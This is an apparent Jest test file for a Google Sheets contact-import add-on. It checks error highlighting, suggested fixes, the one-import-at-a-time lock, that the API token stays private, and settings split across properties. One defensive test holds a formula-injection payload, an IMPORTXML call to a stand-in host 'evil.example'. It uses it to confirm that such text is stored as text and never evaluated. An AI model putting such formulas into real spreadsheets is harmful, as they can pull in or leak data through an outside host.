/**
 * What a person sees the add-on do in the sheet, through the production bundle: checks in
 * place, highlights over their own colours, the error filter, next error, suggested fixes,
 * onEdit re-checks; one import at a time; rows sorted mid-import; the token kept private;
 * formula-looking text written as text.
 */
import { createSyncHttpHandler } from '../../local/gas-fakes/http-sync';
import {
  column,
  emulatorHosts,
  importAll,
  setUp,
  startAddon,
  withAddon,
  TOKEN,
  OWNER,
  type Addon,
} from '../support/addon-harness';
import { contactsTab, editCells } from '../support/contacts-tab';
import { setUpFormulaHeaderTab } from '../support/formula-header';
import { peopleSheet, setUpTwoBroken } from '../support/people-sheet';

const sheet = (rows = 60) => peopleSheet(rows, (i) => (i * 7) % 13);

let addon: Addon;
beforeAll(async () => {
  addon = await startAddon({ Contacts: sheet() }, ['--seed', 'empty', '--rate', '40'], {
    sliceMs: 400,
  });
}, 60_000);
afterAll(() => addon.stop());

const tab = () => contactsTab(addon);
const state = () => addon.fakes.spreadsheet.sheetState('Contacts');

describe('checking in place', () => {
  beforeAll(() => {
    setUpTwoBroken(addon, (tab) => {
      tab.getRange(8, 3).setValue("'013-555 0101"); // row 8: local number, fixable with MY
      tab.getRange(5, 1, 1, 2).setBackground('#fff2cc'); // the person's own colour
    });
  });

  test('review writes the Error column and highlights only the offending cells', () => {
    const review = addon.call('reviewSheet');
    // Looked up in the (empty) workspace: every valid row would be added.
    expect(review).toMatchObject({
      errors: 2,
      firstErrorRow: 4,
      suggestions: 1,
      suggestionSample: [
        { row: 8, column: 'Mobile', current: '013-555 0101', suggested: '+60135550101' },
      ],
      willAdd: 58,
      willUpdate: 0,
      willSkip: 0,
    });
    const s = state();
    const error = s.values[0]!.indexOf('Error');
    expect(s.values[3]![error]).toMatch(/^First Name: missing/);
    expect(s.values[5]![error]).toMatch(/^Email:/);
    expect(s.values[4]![error]).toBe('');
    expect(s.effectiveBackgrounds[3]![0]).toBe('#f4c7c3');
    expect(s.effectiveBackgrounds[3]![1]).not.toBe('#f4c7c3');
    expect(s.effectiveBackgrounds[5]![3]).toBe('#f4c7c3');
    // Row 8's local number has a suggested fix: yellow, and the row is not an error.
    expect(s.effectiveBackgrounds[7]![2]).toBe('#fce8b2');
    expect(s.values[7]![error]).toBe('');
    // The person's own colours are untouched.
    expect(s.backgrounds[4]!.slice(0, 2)).toEqual(['#fff2cc', '#fff2cc']);
    // Helper columns are hidden.
    const hidden = ['Import Fingerprint', 'Error Cells'].map((h) => s.values[0]!.indexOf(h) + 1);
    expect(s.hiddenColumns).toEqual(expect.arrayContaining(hidden));
  });

  test('Go to next error selects the next flagged row, wrapping', () => {
    expect(addon.call('goToNextError', null)).toEqual({ row: 4 });
    expect(state().activeRange).toMatch(/^A4:/);
    expect(addon.call('goToNextError', 4)).toEqual({ row: 6 });
    expect(addon.call('goToNextError', 6)).toEqual({ row: 4 });
  });

  test('Show only rows with errors hides the clean rows, and undoes itself', () => {
    addon.call('setErrorFilter', true);
    const hidden = state().hiddenRowsByFilter;
    expect(hidden).toHaveLength(58);
    expect(hidden).not.toContain(4);
    addon.call('setErrorFilter', false);
    expect(state().hiddenRowsByFilter).toEqual([]);
    expect(state().filter).toBeNull();
  });

  test('editing a flagged cell re-checks its row at once (onEdit)', () => {
    editCells(addon, 4, 1, 'Fixed');
    const s = state();
    expect(s.values[3]![s.values[0]!.indexOf('Error')]).toBe('');
    expect(s.effectiveBackgrounds[3]![0]).not.toBe('#f4c7c3');
    expect(addon.fakes.calls.total('UrlFetchApp')).toBe(0);
  });

  test('Apply suggested fixes writes the suggested value, as text', () => {
    const review = addon.call('applySuggestedFixes');
    expect(review.suggestions).toBe(0);
    expect(state().values[7]![2]).toBe('+60135550101');
    expect(state().effectiveBackgrounds[7]![2]).not.toBe('#fce8b2');
  });
});

describe('importing', () => {
  test('one import at a time: a teammate is told who is importing and since when', () => {
    const first = addon.call('startImport', 'pending');
    addon.fakes.setActiveUser('teammate@example.com');
    try {
      const second = addon.raw('startImport', 'pending');
      expect(second.ok).toBe(false);
      expect(!second.ok && second.error).toMatch(
        new RegExp(`${OWNER} is importing "Contacts" since`),
      );
    } finally {
      addon.fakes.setActiveUser(OWNER);
    }
    addon.call('cancelImport', first.jobId);
  });

  test('rows sorted by a teammate between slices keep their own outcomes', async () => {
    let sorted = false;
    const { progress } = importAll(addon, 'pending', () => {
      if (sorted) return;
      sorted = true;
      addon.fakes.spreadsheet.edit(() => tab().sort(2, false));
    });
    expect(sorted).toBe(true);
    expect(progress.status).toBe('completed');
    const contacts = await addon.contacts();
    const byId = new Map(contacts.map((c) => [c.id, c]));
    const phones = column(addon, 'Mobile');
    const ids = column(addon, 'Contact ID');
    const statuses = column(addon, 'Import Status');
    let checked = 0;
    statuses.forEach((status, i) => {
      if (status !== 'Imported') return;
      const contact = byId.get(Number(ids[i]));
      expect(contact?.phone).toBe(String(phones[i]).replace(/[^\d+]/g, ''));
      checked++;
    });
    expect(checked).toBe(59);
  }, 60_000);

  test('the token never reaches a cell, a note, the document, a log or the sidebar', () => {
    const everywhere: string[] = [];
    for (const name of addon.fakes.spreadsheet.sheetNames()) {
      const s = addon.fakes.spreadsheet.sheetState(name);
      everywhere.push(JSON.stringify([s.values, s.notes, s.formulas, s.displayValues]));
    }
    const props = addon.fakes.properties.snapshot();
    everywhere.push(
      JSON.stringify(props.document),
      JSON.stringify(props.script),
      JSON.stringify(addon.fakes.logs),
    );
    everywhere.push(JSON.stringify(addon.answers));
    for (const [user, store] of Object.entries(props.users))
      if (user !== OWNER) everywhere.push(JSON.stringify(store));
    expect(everywhere.join('\n')).not.toContain(TOKEN);
    expect(JSON.stringify(props.users[OWNER])).toContain(TOKEN);
    expect(addon.call('getWizardState').connection).toEqual({
      baseUrl: addon.baseUrl,
      hasToken: true,
      tokenLast4: TOKEN.slice(-4),
    });
    addon.fakes.setActiveUser('teammate@example.com');
    try {
      expect(addon.call('getWizardState').connection.hasToken).toBe(false);
    } finally {
      addon.fakes.setActiveUser(OWNER);
    }
  });
});

describe('text that looks like a formula', () => {
  test('is written as text, never run', async () => {
    const evil = '=IMPORTXML("http://evil.example/x","//a")';
    await withAddon({ Sheet1: [] }, ['--seed', 'empty'], (other) => {
      setUpFormulaHeaderTab(other, evil, [['Ann', '+60 12-345 6789', 'not-an-email']]);
      other.call('reviewSheet');
      const s = other.fakes.spreadsheet.sheetState('Contacts');
      const error = s.values[0]!.indexOf('Error');
      expect(s.values[1]![error]).toMatch(/^=IMPORTXML\(/);
      expect(s.formulas.flat().filter((f) => f !== '')).toEqual([]);
    });
  }, 120_000);
});

describe('an identifier the workspace holds twice', () => {
  test('review names the identifier cell; an edit elsewhere leaves that message, fixing it clears it', async () => {
    await withAddon({ Sheet1: [] }, ['--seed', 'empty'], async (other) => {
      const shared = '+60132000003';
      await fetch(`${other.emulator.origin}/__admin/reset`, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({
          customFields: [],
          contacts: [7, 8].map((id) => ({ id, firstName: `Twin${id}`, phone: shared })),
        }),
      });
      other.fakes.spreadsheet.seedSheet('Contacts', sheet(6));
      setUp(other, { purpose: 'add-update', identifier: 'phone', importTag: null });
      const errorOf = (row: number) => {
        const s = other.fakes.spreadsheet.sheetState('Contacts');
        return { text: s.values[row - 1]![s.values[0]!.indexOf('Error')], s };
      };
      const edit = (row: number, col: number, value: string) => editCells(other, row, col, value);

      // Row 5 is Person3, whose mobile is the twins' phone.
      expect(other.call('reviewSheet')).toMatchObject({ errors: 1, firstErrorRow: 5 });
      const flagged = errorOf(5);
      expect(flagged.text).toBe(
        'Mobile: matches 2 contacts in the workspace (IDs 7, 8) — merge them there, or use another identifier',
      );
      expect(flagged.s.effectiveBackgrounds[4]![2]).toBe('#f4c7c3');

      edit(3, 2, 'Someone Else'); // another row's last name
      expect(errorOf(5).text).toMatch(/^Mobile: matches 2 contacts/);

      edit(5, 3, '+60 13-200 0099'); // a phone of its own
      const cleared = errorOf(5);
      expect(cleared.text).toBe('');
      expect(cleared.s.effectiveBackgrounds[4]![2]).not.toBe('#f4c7c3');
    });
  }, 120_000);
});

describe('a slice at work', () => {
  test('a second execution sees its rows done move before the slice answers', async () => {
    await withAddon({ Contacts: sheet(50) }, ['--seed', 'empty', '--rate', '10'], (other) => {
      setUp(other, { purpose: 'add-update', identifier: 'phone', importTag: null });
      const { jobId } = other.call('startImport', 'pending');
      // Every request the slice sends first lets another execution look, as the sidebar's
      // poll does while it waits for continueImport.
      const seen: number[] = [];
      const look = () => {
        const live = other.call('getImportProgress', jobId);
        if (live) seen.push(live.rowsDone);
      };
      const http = createSyncHttpHandler({
        timeoutMs: 10_000,
        hosts: emulatorHosts(other.emulator),
      });
      const watched = Object.assign(
        (request: Parameters<typeof http>[0]) => {
          look();
          return http(request);
        },
        {
          all: (requests: Parameters<typeof http.all>[0]) => {
            look();
            return http.all(requests);
          },
        },
      );
      other.fakes.onFetch(watched);

      const done = other.call('continueImport', jobId);
      expect(done).toMatchObject({ status: 'completed', rowsDone: 50, more: false });
      // In between: figures strictly between none and all, never going back.
      expect(seen.filter((n) => n > 0 && n < 50).length).toBeGreaterThan(0);
      expect(seen).toEqual([...seen].sort((a, b) => a - b));
      // Once the job has ended there is nothing live to show.
      expect(other.call('getImportProgress', jobId)).toBeNull();
    });
  }, 60_000);
});

describe('settings bigger than one property', () => {
  test('a 150-column sheet with long headers saves, reopens and re-checks its mapping', async () => {
    const headers = [
      'First Name',
      'Mobile',
      ...Array.from({ length: 148 }, (_, i) => `Survey answer ${i + 1}: how did you hear of us`),
    ];
    const row = ['Ann', '+60 13-200 0001', ...headers.slice(2).map((_, i) => `answer ${i}`)];
    await withAddon({ Contacts: [headers, row] }, ['--seed', 'empty'], (other) => {
      const saved = setUp(other, { purpose: 'add-update', identifier: 'phone', importTag: null });
      expect(JSON.stringify(saved).length).toBeGreaterThan(9 * 1024);
      const reopened = other.call('getWizardState');
      expect(reopened.settings.mapping).toHaveLength(150);
      expect(reopened.settings.mapping[149]?.header).toBe(headers[149]);
      expect(other.call('reviewSheet')).toMatchObject({ rows: 1, errors: 0, valid: 1 });
      const pieces = () =>
        Object.keys(
          other.fakes.uncounted(() =>
            other.fakes.globals.PropertiesService.getDocumentProperties().getProperties(),
          ),
        ).filter((key) => key.startsWith('contactImport.settings.') && key.includes('#'));
      expect(pieces().length).toBeGreaterThan(1);

      // Narrowed to two columns again: one property, the pieces gone.
      other.fakes.spreadsheet.edit(() =>
        other.fakes.globals.SpreadsheetApp.getActiveSheet().deleteColumns(3, 148),
      );
      const narrow = other.call('saveSettings', {
        ...reopened.settings,
        mapping: reopened.settings.mapping.slice(0, 2),
      });
      expect(narrow.ok).toBe(true);
      expect(pieces()).toEqual([]);
      expect(other.call('getWizardState').settings.mapping).toHaveLength(2);
    });
  }, 120_000);
});
